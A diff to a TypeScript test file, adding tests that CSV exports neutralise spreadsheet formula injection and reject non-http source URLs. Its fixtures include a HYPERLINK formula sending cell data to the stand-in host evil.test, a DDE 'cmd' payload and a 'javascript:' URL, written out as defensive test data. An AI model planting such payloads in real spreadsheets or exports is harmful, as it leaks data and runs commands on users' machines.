@@ -199,10 +199,34 @@ describe('tableFile', () => {
       expect(Object.keys(json[i]!)).toEqual(header);
       header!.forEach((col, j) => {
         const v = json[i]![col];
-        const expected = v === null ? '' : Array.isArray(v) ? v.join('; ') : String(v);
+        const text = v === null ? '' : Array.isArray(v) ? v.join('; ') : String(v);
+        const expected = typeof v !== 'number' && /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
         expect(row[j], `${name}.csv row ${i + 1} column ${col}`).toBe(expected);
       });
     });
+  });
+
+  // OWASP CSV injection, on both files: text an editor typed that a spreadsheet would run as a formula.
+  const formulas = ['=HYPERLINK("https://evil.test/?"&A1,"Klik")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+  it.each([
+    ['people', 'notes', (d: typeof data, text: string) => ({ ...d, people: d.people.map((p, i) => (i === 0 ? { ...p, notes: { id: text, en: text } } : p)) })],
+    ['events', 'summary', (d: typeof data, text: string) => ({ ...d, events: d.events.map((e, i) => (i === 0 ? { ...e, summary: text } : e)) })],
+  ] as const)('neutralises formulas in %s.csv (column %s) and keeps the JSON exact', (name, column, plant) => {
+    for (const text of formulas) {
+      const hostile = plant(data, text);
+      const [header, ...rows] = parseCsv(tableFile(name, 'csv', hostile));
+      const cells = rows.map((r) => r[header!.indexOf(column)]!);
+      expect(cells).toContain(`'${text}`);
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), `${name}.csv cells a spreadsheet would run`).toEqual([]);
+      const json = JSON.parse(tableFile(name, 'json', hostile)) as Record<string, unknown>[];
+      expect(json.map((r) => r[column])).toContain(text);
+    }
+  });
+
+  it('refuses to write a source URL that is not http(s), should one slip past the schema', () => {
+    const used = data.people[0]!.sources[0]!;
+    const hostile = { ...data, sources: data.sources.map((s) => (s.id === used ? { ...s, url: 'javascript:alert(1)' } : s)) };
+    for (const format of ['csv', 'json'] as const) expect(() => tableFile('people', format, hostile)).toThrow(`${used}: javascript:alert(1)`);
   });
 
   it('keeps every source URL in the CSV, so ids are never the only pointer', () => {
